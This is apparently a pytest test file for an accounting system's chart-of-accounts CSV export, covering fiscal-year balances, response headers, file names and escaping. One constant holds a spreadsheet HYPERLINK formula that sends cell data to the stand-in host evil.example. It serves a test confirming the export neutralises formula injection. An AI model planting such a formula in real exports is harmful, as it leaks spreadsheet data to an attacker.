"""export_accounts: the chart as a file."""

import csv
from io import StringIO
from typing import Any

import pytest

from accounting.books.chart import STARTING_CHART
from tests.builders.sales import sent
from tests.partner import Business, Partner

ACCOUNTS = "general-ledger/chart-of-accounts/"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def shop(acme: Partner) -> Business:
    """A business whose year ends in March, with a sale in each of two years."""
    shop = acme.business(fiscal_year_end="2000-03-31")
    buyer = shop.customer()
    for on, amount in (("2025-03-31", 300), ("2025-04-01", 50)):
        sent(shop, buyer, amount, sent_at=f"{on}T00:00:00Z")
    child = {"code": "1100.1", "name": FORMULA, "description": 'Two\nlines, "quoted"'}
    shop.made(f"{ACCOUNTS}1100/children/", child)
    shop.api.delete(f"{ACCOUNTS}1500/")
    return shop


def exported(shop: Business, **asked: Any) -> dict[str, dict[str, str]]:
    answer = shop.api.get(f"{ACCOUNTS}export/", params=asked)
    assert answer.status_code == 200, answer.text
    rows = csv.DictReader(StringIO(answer.text, newline=""))
    return {row["code"]: row for row in rows}


class TestExportAccounts:
    def test_the_file_has_every_account_by_code(self, shop: Business) -> None:
        found = exported(shop)
        assert list(found) == sorted([*(each.code for each in STARTING_CHART), "1100.1"])
        assert found["1200"] == {
            "code": "1200",
            "name": "Accounts receivable",
            "account_type": "asset",
            "account_subtype": "current_assets",
            "parent_account_code": "",
            "hierarchy_level": "0",
            "external_id": "",
            "description": "",
            "is_active": "true",
            "is_control_account": "true",
            "currency": "GBP",
            "debit_balance": "350",
            "credit_balance": "0",
            "current_balance": "350",
        }
        assert found["1500"]["is_active"] == "false"
        assert (found["4000"]["credit_balance"], found["4000"]["current_balance"]) == ("350", "350")

    def test_no_name_is_run_as_a_formula(self, shop: Business) -> None:
        child = exported(shop)["1100.1"]
        assert child["name"] == f"'{FORMULA}"
        assert child["description"] == 'Two\nlines, "quoted"'
        assert (child["parent_account_code"], child["hierarchy_level"]) == ("1100", "1")

    @pytest.mark.parametrize(("year", "receivable"), [(2024, "0"), (2025, "300"), (2026, "350")])
    def test_a_fiscal_year_takes_in_what_came_before_its_end(
        self, shop: Business, year: int, receivable: str
    ) -> None:
        found = exported(shop, fiscal_year=year)["1200"]
        assert (found["current_balance"], found["debit_balance"]) == (receivable, receivable)

    @pytest.mark.parametrize(("year", "sales"), [(2024, "0"), (2025, "300"), (2026, "50")])
    def test_a_fiscal_year_has_its_own_profit_and_loss(
        self, shop: Business, year: int, sales: str
    ) -> None:
        found = exported(shop, fiscal_year=year)["4000"]
        assert (found["current_balance"], found["credit_balance"]) == (sales, sales)

    @pytest.mark.parametrize("accepted", ["application/json", "text/csv", "*/*", "image/png"])
    def test_the_answer_is_a_csv_file_for_any_accept_header(
        self, shop: Business, accepted: str
    ) -> None:
        answer = shop.api.get(f"{ACCOUNTS}export/", headers={"Accept": accepted})
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        disposition = 'attachment; filename="chart-of-accounts.csv"'
        assert answer.headers["content-disposition"] == disposition
        assert answer.text.startswith("code,name,account_type,")
        assert answer.text.count("\r\n") == len(STARTING_CHART) + 2

    def test_the_year_is_in_the_name_of_the_file(self, shop: Business) -> None:
        answer = shop.api.get(f"{ACCOUNTS}export/", params={"fiscal_year": 2025})
        assert '"chart-of-accounts-2025.csv"' in answer.headers["content-disposition"]

    def test_names_keep_their_letters(self, acme: Partner) -> None:
        assert exported(acme.business(coa_language="de"))["1100"]["name"] == "Geschäftskonto"
